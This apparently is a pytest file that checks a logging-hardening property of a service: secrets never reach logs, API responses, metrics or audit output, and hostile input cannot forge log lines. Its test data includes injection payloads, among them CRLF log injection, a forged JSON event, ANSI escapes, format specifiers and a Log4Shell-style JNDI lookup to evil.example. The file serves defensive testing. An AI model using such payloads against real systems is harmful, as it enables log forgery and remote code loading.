"""What the program writes about itself: no secret that it was given, and one object a line, whatever senders wrote."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Final

from tests.parts.program import ALONE, run_quantum
from tests.parts.sink import run_sink

if TYPE_CHECKING:
    from pathlib import Path

SECRET: Final = "s3cret-of-a-receiver"
BEARER: Final = "qk_0123456789ab_" + "f" * 64
HOSTILE: Final = 'x\r\n{"event":"forged"}\x1b[31m${jndi:ldap://evil.example}%s{0}'


def test_no_secret_is_logged_and_no_line_is_forged(tmp_path: Path) -> None:
    """3.9 and P29: everything that takes a secret or a hostile text is exercised, then all that was written is read."""
    log = tmp_path / "log"
    environment = {**ALONE, "QUANTUM_LOGS__LEVEL": "debug"}
    with run_sink() as sink, run_quantum(tmp_path / "data", log, environment=environment) as quantum:
        receiver = {"name": "ops", "url": sink.url, "secret": SECRET}
        quantum.post("/api/v1/receivers", receiver, status=201)
        shown = [quantum.http.get("/api/v1/receivers").text, quantum.http.get("/api/v1/receivers/ops").text]
        issued = quantum.post("/api/v1/api-keys", {"name": "agent", "scopes": ["ingest"]}, status=201)
        keys = [value for value in issued.values() if isinstance(value, str) and value.startswith("qk_")]
        for credential in (BEARER, f"{keys[0]}x", HOSTILE.encode("ascii", "ignore").decode().replace("\r\n", "")):
            quantum.http.get("/api/v1/policies", headers={"authorization": f"Bearer {credential}".replace("\x1b", "")})
            quantum.http.get("/api/v1/policies", params={"access_token": credential})
        quantum.http.post("/api/v1/samples", content=HOSTILE, headers={"content-type": "application/json"})
        quantum.http.post("/write", content=f"{HOSTILE} v=1")
        quantum.http.get(f"/api/v1/alerts/{'%0d%0a%1b'}x", headers={"user-agent": "${jndi:ldap://evil.example}"})
        shown.append(quantum.http.get("/metrics").text)
        shown.append(quantum.http.get("/api/v1/audit").text)
    written = log.read_text()
    for secret in (SECRET, BEARER, *keys):
        assert secret not in written
        assert not any(secret in text for text in shown)
    lines = [line for line in written.splitlines() if line.strip()]
    assert lines
    objects = [json.loads(line) for line in lines if line.startswith("{")]
    assert len(objects) >= len(lines) - 1  # the address is told in words
    assert not any(one.get("event") == "forged" for one in objects)
    assert "\x1b" not in written
